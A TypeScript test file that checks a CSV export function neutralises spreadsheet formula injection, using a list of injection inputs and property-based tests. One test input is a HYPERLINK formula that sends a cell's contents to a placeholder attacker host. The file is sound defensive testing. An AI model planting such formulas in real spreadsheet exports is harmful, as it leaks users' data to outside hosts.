import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/services/purchases/purchase-file.js';

/** A cell as a spreadsheet may read it: split at any separator, with or without regard for quotes. */
const pieces = (line: string) => line.split(/[,;|\t\r\n]/).map((piece) => piece.replace(/^["\s]+/, ''));
const isFormula = (text: string) => /^[=+\-@＝＋－＠]/.test(text);

describe('a line for spreadsheets', () => {
	it.each([
		'=1+1',
		'+1',
		'-1',
		'@SUM(A1)',
		'\t=1',
		'\r=1',
		'"=1"',
		'  =1',
		'\u200b=1',
		'＝1',
		'a,=1',
		'a;"=1',
		'a\n=1',
		"'=1",
		'=HYPERLINK("https://evil.example?x="&A1,"Click")',
	])('attack 73: runs %j as no formula', (text) => {
		expect(pieces(csvLine(['name', text])).filter(isFormula)).toEqual([]);
	});

	it('has no formula in any part of any text, and reads back as the same number of cells', () => {
		const units = fc.constantFrom(...'=+-@＝"\'`,;|\t\r\n \u200ba1é');
		const cell = fc.string({ unit: units, maxLength: 12 });
		fc.assert(
			fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
				const line = csvLine(cells);
				expect(pieces(line).filter(isFormula)).toEqual([]);
				// A line of empty cells only is a line all the same.
				expect((parse(line)[0] ?? []).length).toBe(cells.length);
			}),
		);
	});

	it('leaves ordinary texts as they are', () => {
		const cells = ['Aurora - a “theme”', '<@100000000000000001>', '2026-09-01', '29.5', 'a, b; "c"', ''];
		const line = csvLine(cells);
		expect(line.endsWith('\r\n')).toBe(true);
		expect(parse(line)).toEqual([cells]);
	});
});
